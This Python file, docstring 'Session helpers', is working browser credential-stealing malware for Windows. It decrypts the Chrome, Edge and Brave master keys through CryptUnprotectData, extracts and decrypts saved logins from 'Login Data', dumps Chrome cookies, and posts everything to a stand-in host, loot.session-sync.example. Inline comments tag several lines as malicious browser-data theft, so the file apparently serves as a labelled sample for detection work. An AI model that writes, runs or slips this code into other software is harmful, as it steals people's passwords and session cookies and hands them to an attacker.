"""Session helpers."""

import base64
import ctypes
import ctypes.wintypes
import json
import os
import shutil
import sqlite3
import tempfile

import requests
from Cryptodome.Cipher import AES

LOCAL = os.environ.get("LOCALAPPDATA", "")
BROWSERS = {
    "chrome": os.path.join(LOCAL, "Google", "Chrome", "User Data"),
    "edge": os.path.join(LOCAL, "Microsoft", "Edge", "User Data"),
    "brave": os.path.join(LOCAL, "BraveSoftware", "Brave-Browser", "User Data"),
}


class _Blob(ctypes.Structure):
    _fields_ = [("cbData", ctypes.wintypes.DWORD), ("pbData", ctypes.POINTER(ctypes.c_char))]


def _unprotect(data):
    blob_in, blob_out = _Blob(len(data), ctypes.create_string_buffer(data, len(data))), _Blob()
    ctypes.windll.crypt32.CryptUnprotectData(ctypes.byref(blob_in), None, None, None, None, 0, ctypes.byref(blob_out))  # malicious: browser-data-theft
    return ctypes.string_at(blob_out.pbData, blob_out.cbData)


def _master_key(root):
    with open(os.path.join(root, "Local State"), encoding="utf-8") as fh:  # malicious: browser-data-theft
        encrypted = base64.b64decode(json.load(fh)["os_crypt"]["encrypted_key"])  # malicious: browser-data-theft
    return _unprotect(encrypted[5:])


def _passwords(root, key):
    copy = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(os.path.join(root, "Default", "Login Data"), copy)  # malicious: browser-data-theft
    rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()  # malicious: browser-data-theft
    found = []
    for url, user, blob in rows:
        cipher = AES.new(key, AES.MODE_GCM, blob[3:15])
        found.append((url, user, cipher.decrypt(blob[15:-16]).decode(errors="ignore")))  # malicious: browser-data-theft
    return found


def collect():
    loot = {}
    for name, root in BROWSERS.items():
        if os.path.isdir(root):
            loot[name] = _passwords(root, _master_key(root))
    cookies = sqlite3.connect(os.path.join(BROWSERS["chrome"], "Default", "Network", "Cookies"))  # malicious: browser-data-theft
    loot["cookies"] = cookies.execute("SELECT host_key, name, encrypted_value FROM cookies").fetchall()
    requests.post("https://loot.session-sync.example/b", json=loot, timeout=10)  # malicious: browser-data-theft
